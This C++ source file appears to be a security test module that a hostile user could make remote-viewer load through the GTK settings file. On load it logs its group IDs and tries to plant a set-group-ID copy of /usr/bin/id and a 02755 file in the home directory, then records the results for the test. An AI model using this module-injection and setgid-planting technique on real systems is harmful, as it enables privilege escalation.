// What a hostile user can make remote-viewer load: a GTK module named in
// ~/.config/gtk-3.0/settings.ini (gtk-modules=). Inside the viewer it holds
// the launcher's group as every gid, and tries to leave a set-group-ID
// program behind (a copy of a program, chmod 02755; a file opened with mode
// 02755). It writes what happened to $HOME/setid-module.log for the test.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

std::string result(int rc) { return rc >= 0 ? "ok" : strerrorname_np(errno); }

std::string mode_of(const std::string& path) {
    struct stat st;
    if (::lstat(path.c_str(), &st) != 0) return "absent";
    char buf[16];
    std::snprintf(buf, sizeof buf, "%04o", static_cast<unsigned>(st.st_mode & 07777));
    return buf;
}

bool copy_file(const char* from, const std::string& to) {
    int in = ::open(from, O_RDONLY | O_CLOEXEC);
    int out = ::open(to.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    bool ok = in >= 0 && out >= 0;
    char buf[65536];
    for (ssize_t n; ok && (n = ::read(in, buf, sizeof buf)) > 0;) ok = ::write(out, buf, static_cast<size_t>(n)) == n;
    if (in >= 0) ::close(in);
    if (out >= 0) ::close(out);
    return ok;
}

__attribute__((constructor)) void plant() {
    const char* home = std::getenv("HOME");
    if (!home) return;
    const std::string dir = home;
    FILE* log = std::fopen((dir + "/setid-module.log").c_str(), "w");
    if (!log) return;
    gid_t r, e, s;
    ::getresgid(&r, &e, &s);
    std::fprintf(log, "loaded gids %u %u %u\n", r, e, s);
    const std::string copy = dir + "/planted-copy", opened = dir + "/planted-open";
    std::fprintf(log, "copy %s\n", copy_file("/usr/bin/id", copy) ? "ok" : "failed");
    const std::string chmodded = result(::chmod(copy.c_str(), 02755));  // before lstat changes errno
    std::fprintf(log, "chmod 02755 %s mode %s\n", chmodded.c_str(), mode_of(copy).c_str());
    int fd = ::open(opened.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 02755);
    const std::string created = result(fd);
    std::fprintf(log, "open 02755 %s mode %s\n", created.c_str(), mode_of(opened).c_str());
    if (fd >= 0) ::close(fd);
    std::fclose(log);
}

}  // namespace

// GTK calls this after loading a module; the work above is already done.
extern "C" __attribute__((visibility("default"))) void gtk_module_init(int*, char***) {}
